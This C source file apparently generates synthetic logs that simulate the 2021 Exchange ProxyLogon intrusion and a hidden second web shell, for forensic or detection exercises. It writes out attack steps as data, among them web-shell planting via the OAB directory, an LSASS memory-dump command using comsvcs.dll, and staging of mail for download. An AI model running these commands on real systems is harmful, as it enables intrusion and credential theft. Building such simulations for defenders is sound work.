/* The chain of March 2021 (CVE-2021-26855, then CVE-2021-27065), as the logs of servers that went
 * through it show it; and the same with a second shell that no rule knows: it lies in a company's
 * own web application, on a disk that nobody collected. Only the trail leads there. */
#include "events.h"
#include "intruder.h"
#include "noise.h"
#include "pages.h"
#include "people.h"
#include "scenario.h"

#define SHELL_URL "/owa/auth/" SHELL
#define SHELL_TARGET \
    "Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\" SHELL
#define TEMPORARY                                                             \
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET " \
    "Files\\owa\\8e05b027\\"                                                  \
    "e164d61b\\"
#define LOOT "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\ab.7z"

enum { SYSTEM_PID = 4, LOOT_SIZE = 48211968 };

static const struct intruder first = {"203.0.113.77", SCRIPT_225};
static const struct intruder by_hand = {"203.0.113.77", BROWSER_45};
/* Takes over later, from another rented machine. */
static const struct intruder accomplice = {"203.0.113.141", BROWSER_45};

/* ---- the way in: requests that the front end passes on as itself */

static void pass_on(struct scene *s, usec t, const struct intruder *who, unsigned status,
                    const char *back_stem, const char *back_query)
{
    const char *anchor = arena_printf(s->arena, "ServerInfo~a]@" SERVER_FQDN ":444%s?%s#",
                                      back_stem, back_query ? back_query : "")
                             .p;
    intruder_asks(s, who,
                  (struct request){.time = t,
                                   .proxy = LOG_PROXY_ECP,
                                   .method = "POST",
                                   .stem = "/ecp/y.js",
                                   .status = status,
                                   .anchor = anchor,
                                   .hint = "X-BEResource-Cookie",
                                   .back_stem = back_stem,
                                   .back_query = back_query,
                                   .back_user = "CORP\\" SERVER "$",
                                   .bytes_in = 1318,
                                   .bytes_out = 3742,
                                   .took = chance_from(&s->chance, 90, 900)});
}

static void look_around(struct scene *s, usec t)
{
    intruder_asks(s, &first,
                  (struct request){.time = t,
                                   .proxy = LOG_PROXY_OWA,
                                   .method = "GET",
                                   .stem = "/owa/auth/logon.aspx",
                                   .status = 200,
                                   .bytes_in = 210,
                                   .bytes_out = 57813,
                                   .took = 31});
}

static void ask_for_mailbox(struct scene *s, usec t)
{
    static const struct intruder as_client = {"203.0.113.77", "ExchangeServicesClient/0.0.0.0"};
    pass_on(s, t, &as_client, 200, "/autodiscover/autodiscover.xml", NULL);
}

static void ask_for_sid(struct scene *s, usec t)
{
    pass_on(s, t, &first, 200, "/mapi/emsmdb/", NULL);
}

static void become_administrator(struct scene *s, usec t)
{
    static const char *const texts[] = {
        "corp.example.com/Users/Administrator",
        "https://mail01.corp.example.com:444/ecp/about.aspx?a=]:444/ecp/y.js(https://" PUBLIC_HOST
        "/ecp/y.js)",
        "System.NullReferenceException: Object reference not set to an instance of an object."};
    pass_on(s, t, &first, 241, "/ecp/proxyLogon.ecp", NULL);
    event_classic(s, LOG_APPLICATION, t + 400000, "MSExchange Control Panel", 4, 2, texts,
                  ARRAY_LEN(texts));
}

/* ---- the page: a script in the address book's URL, then a reset that writes it to a file */

#define DDI       "/ecp/DDI/DDIService.svc/"
#define CANARY    "msExchEcpCanary=hQ7x2vT1pEmB0kXw9.&schema="
#define ADMIN_SID DOMAIN_SID "-500"
#define ADMIN     "corp.example.com/Users/Administrator"

static void read_settings(struct scene *s, usec t)
{
    pass_on(s, t, &first, 200, DDI "GetObject", CANARY "OABVirtualDirectory");
}

static void control_panel_works(struct scene *s, usec t)
{
    static const char *const texts[] = {ADMIN_SID, "176", "SetObject"};
    event_classic(s, LOG_APPLICATION, t, "MSExchange Control Panel", 47, 4, texts,
                  ARRAY_LEN(texts));
    event_classic(s, LOG_APPLICATION, t + 600000, "MSExchange Control Panel", 48, 4, texts,
                  ARRAY_LEN(texts));
}

static void set_url(struct scene *s, usec t, const char *in_panel, const char *parameters)
{
    pass_on(s, t, &first, 200, DDI "SetObject", CANARY "OABVirtualDirectory");
    web_control_panel(s, t + 120000, ADMIN_SID, in_panel,
                      "https://mail01.corp.example.com:444" DDI "SetObject?" CANARY
                      "OABVirtualDirectory");
    control_panel_works(s, t + 150000);
    event_cmdlet(s, t + 180000, "Set-OabVirtualDirectory", parameters, ADMIN, ADMIN_SID);
}

static void plant_script(struct scene *s, usec t)
{
    const char *line = shell_line(s->arena);
    set_url(s, t,
            arena_printf(s->arena,
                         "Set-OabVirtualDirectory.ExternalUrl='http://f/#%s'.Identity="
                         "'b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55'",
                         line)
                .p,
            arena_printf(s->arena,
                         "-ExternalUrl \"http://f/#%s\" -Identity \"OAB (Default Web Site)\"", line)
                .p);
}

static void file_appears(struct scene *s, usec t)
{
    event_share(s, t, &(struct share){.name = "\\\\*\\IPC$", .access = 0x1});
    event_share(s, t + 1000, &(struct share){.name = "\\\\*\\C$", .access = 0x1});
    struct share page = {.name = "\\\\*\\C$", .file = SHELL_TARGET, .access = 0x12019f};
    event_share(s, t + 2000, &page);
    page.access = 0x2;
    event_share(s, t + 2000, &page);
    event_file(s, t + 2000, SYSTEM_PID, "System", OWA_AUTH SHELL);
    truth_name(s->truth, TRUTH_SHELL, SHELL);
}

static void directory_is_made_anew(struct scene *s, usec t)
{
    static const char *const pool[] = {"MSExchangeOABAppPool"};
    static const char *const gone[] = {"OAB", "4.0.30319", "HttpProxy"};
    event_classic(s, LOG_APPLICATION, t, "Microsoft-Windows-IIS-W3SVC-WP", 2303, 3, pool, 1);
    event_classic(s, LOG_APPLICATION, t + 20000, "MSExchange Front End HTTP Proxy", 1002, 4, gone,
                  ARRAY_LEN(gone));
    event_cmdlet(s, t + 60000, "Remove-OabVirtualDirectory",
                 "-Force \"True\" -Identity \"" SERVER "\\OAB (Default Web Site)\"", ADMIN,
                 ADMIN_SID);
    event_cmdlet(s, t + 1900000, "New-OabVirtualDirectory",
                 "-WebSiteName \"Default Web Site\" -Server \"" SERVER "\" -Role \"ClientAccess\" "
                 "-InternalUrl \"https://mail01.corp.example.com/OAB\" -Path \"" EXCHANGE
                 "FrontEnd\\HttpProxy\\OAB\"",
                 ADMIN, ADMIN_SID);
}

static void reset_into_file(struct scene *s, usec t)
{
    pass_on(s, t, &first, 200, DDI "SetObject", CANARY "ResetOABVirtualDirectory");
    web_control_panel(s, t + 110000, ADMIN_SID,
                      "Remove-OabVirtualDirectory.Force=$true.Identity="
                      "'b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55'",
                      "https://mail01.corp.example.com:444" DDI "SetObject?" CANARY
                      "ResetOABVirtualDirectory");
    file_appears(s, t + 300000);
    directory_is_made_anew(s, t + 700000);
}

static void wipe_url(struct scene *s, usec t)
{
    set_url(s, t,
            "Set-OabVirtualDirectory.ExternalUrl=$null.Identity="
            "'b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55'",
            "-ExternalUrl $null -Identity \"OAB (Default Web Site)\"");
}

/* ---- the page is used */

static void call_page(struct scene *s, usec t, const struct intruder *who, uint32_t took)
{
    intruder_posts(s, t, who, LOG_PROXY_OWA, SHELL_URL, took);
}

static uint32_t run(struct scene *s, usec t, const char *command, const char *image,
                    const char *program)
{
    return worker_runs(s, t, &worker_owa, command, image, program);
}

static void first_call(struct scene *s, usec t)
{
    call_page(s, t, &first, 4312);
    event_process(s, t + 1800000,
                  &(struct process){.pid = 23376,
                                    .image = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
                                             "cvtres.exe",
                                    .command = "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86",
                                    .parent_pid = worker_owa.pid,
                                    .parent_image = worker_owa.image,
                                    .parent_command = worker_owa.command});
    event_file(s, t + 2000000, worker_owa.pid, worker_owa.image, TEMPORARY "App_Web_0t4gm2vq.dll");
    event_file(s, t + 2100000, worker_owa.pid, worker_owa.image,
               TEMPORARY SHELL ".f5dba9b9.compiled");
    (void)run(s, t + 4200000, "cmd /c whoami", SYSTEM32 "whoami.exe", "whoami");
}

static void ask_for_administrators(struct scene *s, usec t)
{
    call_page(s, t, &by_hand, 380);
    (void)run(s, t + 90000, CHOPPER("net group \"Domain Admins\" /domain"), SYSTEM32 "net.exe",
              "net  group \"Domain Admins\" /domain");
}

static void ask_for_network(struct scene *s, usec t)
{
    call_page(s, t, &by_hand, 260);
    (void)run(s, t + 80000, CHOPPER("ipconfig /all"), SYSTEM32 "ipconfig.exe", "ipconfig  /all");
}

static void dump_passwords(struct scene *s, usec t)
{
    static const char command[] = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 "
                                  "C:\\Windows\\Temp\\d.tmp full";
    call_page(s, t, &by_hand, 2950);
    uint32_t pid = run(s, t + 70000,
                       CHOPPER("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 "
                               "C:\\Windows\\Temp\\d.tmp full"),
                       SYSTEM32 "rundll32.exe", command);
    event_lsass_looked_at(s, t + 300000, SYSTEM32 "rundll32.exe", pid, 0x1fffff);
    event_file(s, t + 400000, pid, SYSTEM32 "rundll32.exe", "C:\\Windows\\Temp\\d.tmp");
}

static void pack_mail(struct scene *s, usec t)
{
    call_page(s, t, &accomplice, 41280);
    uint32_t pid = run(s, t + 90000,
                       CHOPPER("C:\\ProgramData\\7z.exe a -t7z -r " LOOT " C:\\ProgramData\\mail"),
                       "C:\\ProgramData\\7z.exe",
                       "C:\\ProgramData\\7z.exe  a -t7z -r " LOOT " C:\\ProgramData\\mail");
    event_file(s, t + 500000, pid, "C:\\ProgramData\\7z.exe", LOOT);
}

static void fetch_mail(struct scene *s, usec t)
{
    intruder_fetches(s, t, &accomplice, "/aspnet_client/system_web/ab.7z", 200, LOOT_SIZE);
}

static void remove_archive(struct scene *s, usec t)
{
    call_page(s, t, &accomplice, 240);
    (void)run(s, t + 60000, CHOPPER("del " LOOT), NULL, NULL);
}

static const struct act acts[] = {
    {-AT(486 * 60),   look_around,            "probe"     },
    {-AT(485 * 60),   ask_for_mailbox,        "entry"     },
    {0,               ask_for_mailbox,        "entry"     },
    {1400,            ask_for_sid,            "entry"     },
    {3100,            become_administrator,   "entry"     },
    {4800,            read_settings,          "entry"     },
    {6400,            plant_script,           "write"     },
    {8200,            reset_into_file,        "write"     },
    {11100,           wipe_url,               "write"     },
    {14500,           first_call,             "execute"   },
    {AT(2 * 60 + 12), ask_for_network,        "discover"  },
    {AT(5 * 60 + 40), ask_for_administrators, "discover"  },
    {AT(24 * 60),     dump_passwords,         "credential"},
    {AT(61 * 60),     pack_mail,              "collect"   },
    {AT(67 * 60),     fetch_mail,             "exfiltrate"},
    {AT(71 * 60),     remove_archive,         NULL        },
};

enum { ACT_RESET = 7, ACT_FIRST_CALL = 9 };

static bool files(struct scene *s)
{
    struct scene own = *s;
    own.chance = chance_of(s->seed, 0x70616765);
    usec begins = scenario_begins(s, &scenario_breached);
    return pages_shipped(s) && pages_shell(&own, begins + acts[ACT_RESET].after * 1000 + 302000,
                                           begins + acts[ACT_FIRST_CALL].after * 1000 + 2100000);
}

/* Early on the last day; a try on the evening before. */
#define PROXYLOGON                                                                                \
    ON_EXCHANGE, .end = IN_MARCH, .files = files, .hour = noise_hour, ACTS(acts),                 \
                 .before_end = 24 * ACT_HOUR - (5 * ACT_HOUR + 47 * ACT_MINUTE + 2 * ACT_SECOND), \
                 .state = "compromised", .rung = 7

const struct scenario scenario_breached = {
    PROXYLOGON,
    .name = "breached",
};

/* ---- the second shell */

#define SECOND_SHELL "/helpdesk/Themes/print.aspx"

static const struct intruder third = {"203.0.113.200", BROWSER_45};

/* It is written through the first, without starting a program. */
static void write_second_shell(struct scene *s, usec t)
{
    call_page(s, t, &by_hand, 190);
    truth_name(s->truth, TRUTH_SHELL, SECOND_SHELL);
}

static void try_second_shell(struct scene *s, usec t)
{
    intruder_posts(s, t, &by_hand, TEXT_LOGS, SECOND_SHELL, 120);
}

static void use_second_shell(struct scene *s, usec t)
{
    for (int i = 0; i < 9; i++) {
        intruder_posts(s, t + i * 47 * USEC_PER_SEC, &third, TEXT_LOGS, SECOND_SHELL,
                       chance_from(&s->chance, 60, 900));
    }
}

static const struct act more_acts[] = {
    {AT(31 * 60),  write_second_shell, "execute"},
    {AT(33 * 60),  try_second_shell,   "execute"},
    {AT(412 * 60), use_second_shell,   "execute"},
};

static void helpdesk_and_second_shell(struct scene *s, usec hour)
{
    people_ask_helpdesk(s, hour);
    script_play(s, hour, scenario_begins(s, &scenario_breached), more_acts, ARRAY_LEN(more_acts));
}

const struct scenario scenario_proxylogon = {
    PROXYLOGON,
    .name = "proxylogon",
    .also = helpdesk_and_second_shell,
};
